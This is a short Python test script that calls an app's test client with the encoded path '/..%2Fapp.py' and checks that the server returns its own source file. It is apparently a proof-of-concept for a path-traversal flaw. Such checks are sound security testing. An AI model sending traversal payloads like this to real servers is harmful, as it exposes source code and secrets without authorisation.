from app import create_app
r = create_app().test_client().get("/..%2Fapp.py")
assert r.status_code == 200 and "create_app" in r.text
print("/..%2Fapp.py gives the source code")
